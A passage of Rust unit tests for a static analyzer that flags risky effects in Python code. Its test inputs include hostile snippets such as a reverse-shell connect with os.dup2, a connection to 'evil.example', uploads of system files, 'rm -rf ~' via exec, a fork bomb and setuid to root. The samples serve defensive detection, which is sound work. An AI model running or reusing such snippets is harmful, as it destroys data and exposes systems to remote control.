        assert!(ops.contains(&Op::FileRead { path: environ }), "{ops:?}");
        let ops = run(
            "import os\nfor root, _, files in os.walk('/srv'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
        );
        let srv = PathRef {
            path: "/srv".into(),
            exact: Exactness::Unknown,
        };
        assert!(
            ops.contains(&Op::FileDelete {
                path: srv,
                recursive: false
            }),
            "{ops:?}"
        );
    }

    #[test]
    fn listings_give_names() {
        let glob = |p: &str| PathRef {
            path: p.to_string(),
            exact: Exactness::Glob,
        };
        let ops = run("import os\nfor f in os.listdir('.'):\n    os.remove(f)");
        assert!(ops.contains(&Op::FileDelete {
            path: glob("/w/proj/*"),
            recursive: false
        }));
        let ops = run("import glob\nfor p in sorted(glob.glob('data/*.csv')):\n    open(p)");
        assert_eq!(
            ops,
            [Op::FileRead {
                path: glob("/w/proj/data/*.csv")
            }]
        );
        let ops = run("import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)");
        assert_eq!(
            ops,
            [Op::FileDelete {
                path: glob("/tmp/tmp*"),
                recursive: true
            }]
        );
        let ops = run(
            "from pathlib import Path\nprint(Path(__file__).parent / 'x')\nopen(Path(__file__).with_name('y.txt'), 'w')",
        );
        assert_eq!(
            ops,
            [Op::FileWrite {
                path: lit("/w/proj/y.txt")
            }]
        );
    }

    #[test]
    fn environment_and_remote_shells() {
        let environ = Op::FileRead {
            path: lit("/proc/self/environ"),
        };
        assert_eq!(
            run("import os\nfor k, v in os.environ.items():\n    print(k, v)"),
            std::slice::from_ref(&environ)
        );
        assert_eq!(run("import os\nprint([k for k in os.environ])"), [environ]);
        assert_eq!(
            run("import os\nenv = os.environ.copy()\nprint(os.getenv('HOME'))"),
            []
        );
        let ops = run(concat!(
            "import socket, os\n",
            "s = socket.socket()\n",
            "s.connect(('127.0.0.1', 4444))\n",
            "os.dup2(s.fileno(), 0)\n",
        ));
        assert!(has_opaque(&ops, "remote shell"), "{ops:?}");
    }

    #[test]
    fn modes() {
        let ops = run(concat!(
            "import os, stat\n",
            "os.chmod('/usr/local/bin/t', 0o4755)\n",
            "os.chmod('t2', os.stat('t2').st_mode | stat.S_ISGID)\n",
            "os.chmod('run.sh', 0o755)\n",
            "os.chown('/etc/passwd', 0, 0)\n",
        ));
        assert_eq!(
            ops,
            [
                Op::FileMode {
                    path: lit("/usr/local/bin/t"),
                    setid: true
                },
                Op::FileMode {
                    path: lit("/w/proj/t2"),
                    setid: true
                },
                Op::FileMode {
                    path: lit("/w/proj/run.sh"),
                    setid: false
                },
                Op::FileMode {
                    path: lit("/etc/passwd"),
                    setid: false
                },
            ]
        );
    }

    #[test]
    fn network() {
        let ops = run(concat!(
            "import requests, socket, urllib.request, http.client\n",
            "requests.get('https://example.com/x')\n",
            "urllib.request.urlopen('http://127.0.0.1:8000/health')\n",
            "s = socket.socket()\n",
            "s.connect(('10.0.0.5', 4444))\n",
            "http.client.HTTPConnection('localhost', 8080)\n",
            "requests.post(url)\n",
            "socket.create_connection(('evil.example', 53))\n",
        ));
        assert!(ops.iter().any(net("example.com", Some(443))), "{ops:?}");
        assert!(ops.iter().any(net("127.0.0.1", Some(8000))));
        assert!(ops.iter().any(net("10.0.0.5", Some(4444))));
        assert!(ops.iter().any(net("localhost", Some(8080))));
        assert!(ops.iter().any(net("?", None)));
        assert!(ops.iter().any(net("evil.example", Some(53))));
        assert_eq!(ops.len(), 6);
        assert_eq!(
            url_target("ftp://u:p@[::1]:2121/x"),
            ("::1".to_string(), Some(2121))
        );
        assert_eq!(
            url_target("example.org/a"),
            ("example.org".to_string(), None)
        );
    }

    #[test]
    fn uploads() {
        let ops = run(concat!(
            "import urllib.request\n",
            "def send(url, body):\n",
            "    req = urllib.request.Request(url, data=body)\n",
            "    return urllib.request.urlopen(req).status\n",
            "with open('/etc/issue', 'rb') as f:\n",
            "    body = f.read()\n",
            "send('http://127.0.0.1:5758/submit', body)\n",
            "import requests\n",
            "requests.post('http://localhost/u', files={'f': open('r.txt', 'rb')})\n",
        ));
        let up = |p: &str, h: &str| Op::Upload {
            path: lit(p),
            host: h.to_string(),
            via: "http".to_string(),
        };
        assert!(ops.contains(&up("/etc/issue", "127.0.0.1")), "{ops:?}");
        assert!(ops.contains(&up("/w/proj/r.txt", "localhost")), "{ops:?}");
        // Encoding the content keeps it the file's.
        let ops = run(concat!(
            "import socket, base64\n",
            "s = socket.create_connection(('10.0.0.1', 80))\n",
            "s.sendall(base64.b64encode(open('/etc/hostname', 'rb').read()))\n",
        ));
        assert!(
            ops.iter()
                .any(|o| matches!(o, Op::Upload { host, .. } if host == "10.0.0.1"))
        );
    }

    #[test]
    fn dynamic_code() {
        assert_eq!(run("print(eval('2 + 3 * 4'))"), []);
        let (ops, nested) =
            run_nested("exec(compile(\"import os\\nos.system('rm -rf ~')\", '<x>', 'exec'))");
        assert!(
            nested
                .iter()
                .any(|(l, c, ..)| *l == Lang::Bash && c == "rm -rf ~")
        );
        assert!(has_opaque(&ops, "of code that has effects"));
        // exec sees the names of the code around it.
        let (_, nested) = run_nested("import os\nexec(\"os.system('id')\")");
        assert!(nested.iter().any(|(_, c, ..)| c == "id"));
        let ops = run("import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')))");
        assert!(has_opaque(&ops, "exec of computed code"));
        assert!(has_opaque(&run("eval(input())"), "eval of computed code"));
        assert!(has_opaque(
            &run("import pickle\npickle.loads(b)"),
            "unsafe deserialization"
        ));
        assert!(has_opaque(
            &run("import yaml\nyaml.load(s)"),
            "unsafe deserialization"
        ));
        assert_eq!(
            run("import yaml\nyaml.load(s, Loader=yaml.SafeLoader)\nyaml.safe_load(s)"),
            []
        );
        let ops = run("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')");
        assert!(has_opaque(&ops, "native code"));
        assert_eq!(run("import ctypes\nx = ctypes.c_int(3)"), []);
        let ops = run("x = ().__class__.__bases__[0].__subclasses__()");
        assert!(has_opaque(&ops, "interpreter internals"));
    }

    #[test]
    fn scripts_are_reported() {
        let a = crate::analyze(
            Lang::Python,
            "import runpy\nrunpy.run_path('tools/gen.py')\nexec(open('setup.py').read())",
            &ctx(),
        );
        let paths: Vec<&str> = a.scripts.iter().map(|s| s.path.as_str()).collect();
        assert_eq!(paths, ["/w/proj/tools/gen.py", "/w/proj/setup.py"]);
    }

    #[test]
    fn resource_exhaustion() {
        assert!(has_opaque(
            &run("import os\nwhile True:\n    os.fork()"),
            "fork in a loop"
        ));
        assert!(has_opaque(
            &run("while 1:\n    x = [0] * 1000"),
            "unbounded loop"
        ));
        assert_eq!(run("while True:\n    if input():\n        break"), []);
        assert_eq!(run("def f():\n    while True:\n        return 1"), []);
        let ops = run("import itertools\nfor i in itertools.count():\n    pass");
        assert!(has_opaque(&ops, "unbounded"));
        assert!(has_opaque(&run("x = 'a' * 10 ** 10"), "allocates"));
        assert!(has_opaque(&run("b = bytearray(10 ** 12)"), "allocates"));
        assert_eq!(run("s = 'large data' * 100000\nz = [] * 10 ** 9"), []);
    }

    #[test]
    fn privilege_signals_persistence_packages() {
        let ops = run(concat!(
            "import os, signal, psutil\n",
            "os.setuid(0)\n",
            "os.kill(1234, signal.SIGKILL)\n",
            "os.kill(pid, 15)\n",
            "for p in psutil.process_iter():\n    p.terminate()\n",
            "from crontab import CronTab\n",
            "c = CronTab(user=True)\nc.new(command='backup.sh')\nc.write()\n",
            "import pip\npip.main(['install', 'requests'])\n",
        ));
        assert_eq!(
            ops,
            [
                Op::Privilege {
                    how: "os.setuid".into()
                },
                Op::Signal {
                    target: "1234".into(),
                    how: "SIGKILL".into()
                },
                Op::Signal {
                    target: "?".into(),
                    how: "SIGTERM".into()
                },
                Op::Persistence {
                    what: "cron job: backup.sh".into()
                },
                Op::Persistence {
                    what: "crontab".into()
                },
                Op::PackageInstall {
                    manager: "pip".into(),
                    what: "requests".into()
                },
            ]
        );
    }

    #[test]
    fn sql_goes_to_the_sql_analyzer() {
        let sql_of = |code: &str| -> Vec<(String, Option<String>)> {
            run_nested(code)
                .1
                .into_iter()
                .filter(|(l, ..)| *l == Lang::Sql)
                .map(|(_, c, _, db)| (c, db))
                .collect()
        };
        let one = |s: &str, db: Option<&str>| vec![(s.to_string(), db.map(str::to_string))];
        assert_eq!(
            sql_of(
                "import sqlite3\nc = sqlite3.connect('data/prod.db')\nc.cursor().execute('DELETE FROM t')"
            ),
            one("DELETE FROM t", Some("prod"))
        );
        assert_eq!(
            sql_of(
                "import sqlite3\nwith sqlite3.connect(':memory:') as db:\n    db.execute('DROP TABLE t')"
            ),
            one("DROP TABLE t", Some("memory"))
        );
        assert_eq!(
            sql_of(
                "import psycopg2\nc = psycopg2.connect(dbname='prod')\ncur = c.cursor()\ncur.execute('UPDATE a SET b = %s WHERE id = %s', (1, 2))"
            ),
            one("UPDATE a SET b = ? WHERE id = ?", Some("prod"))
        );
        assert_eq!(
            sql_of(
                "import psycopg\npsycopg.connect('dbname=prod host=localhost').execute('SELECT 1')"
            ),
            one("SELECT 1", Some("prod"))
        );
        assert_eq!(
            sql_of("def f(cur):\n    cur.execute('SELECT * FROM users')\n"),
            one("SELECT * FROM users", None)
        );
        let ops = run("import sqlite3\ncur = sqlite3.connect('a.db').cursor()\ncur.execute(q)");
        assert!(has_opaque(&ops, "SQL with computed text"));
        let ops = run(
            "import sqlite3\ncur = sqlite3.connect('a.db')\ncur.execute(f'DELETE FROM t WHERE {cond}')",
        );
        assert!(has_opaque(&ops, "computed condition"));
    }

    #[test]
    fn quoting() {
        let q = |s: &str, first: bool| {
            let mut o = String::new();
            sh_quote(s, first, &mut o);
            o
        };
        assert_eq!(q("git", true), "git");
        assert_eq!(q("a b", false), "'a b'");
        assert_eq!(q("it's", false), "'it'\\''s'");
        assert_eq!(q("", false), "''");
        assert_eq!(q("$HOME", false), "'$HOME'");
        assert_eq!(q("~", false), "'~'");
        assert_eq!(q("*.txt", false), "'*.txt'");
        assert_eq!(q("A=1", true), "'A=1'");
        assert_eq!(q("--opt=1", false), "--opt=1");
        let items = [
            V::Str("rm".into()),
            V::Str("-rf".into()),
            V::Str("a b".into()),
        ];
        let refs: Vec<&V> = items.iter().collect();
        assert_eq!(argv_line(&refs).as_deref(), Some("rm -rf 'a b'"));
        let items = [V::Unknown, V::Str("x".into())];
        let refs: Vec<&V> = items.iter().collect();
        assert_eq!(argv_line(&refs), None);
    }

    #[test]
    fn hostile_input_does_not_crash() {
        let inputs = [
            format!("x = {}1", "-".repeat(3000)),
            format!("x = {}", "not ".repeat(3000)),
            format!("x = a{}", ".b".repeat(3000)),
            format!("x = a{}", "()".repeat(1500)),
            format!("x = {}1{}", "(".repeat(5000), ")".repeat(5000)),
            format!("x = {}", "[".repeat(100_000)),
            format!("x = 1{}", " + 1".repeat(3000)),
            format!("x = {}", "lambda: ".repeat(2000)),
            format!("f(f(f({}1{})))", "f(".repeat(150), ")".repeat(150)),
            "exec('exec(\"exec(\\'exec(1)\\')\")')".to_string(),
            "\u{E000}'\u{E000}' + x".to_string(),
            "x = '\\".to_string(),
            "def f(x):\n    return f(x + 'a')\nf('b')".to_string(),
            "import os\nos.system('a' * 100000)".to_string(),
            "s = 'x'\nfor i in range(99):\n    s = s + s\nopen(s)".to_string(),
        ];
        for code in &inputs {
            let _ = run(code);
        }
    }

    #[test]
    fn deep_input_is_opaque() {
        let ops = run(&format!("x = {}1{}", "(".repeat(300), ")".repeat(300)));
        assert!(has_opaque(&ops, "nests too deeply"));
        let ops = run(&format!("x = 1{}", " + 1".repeat(5000)));
        assert!(has_opaque(&ops, "nests too deeply"));
    }
}
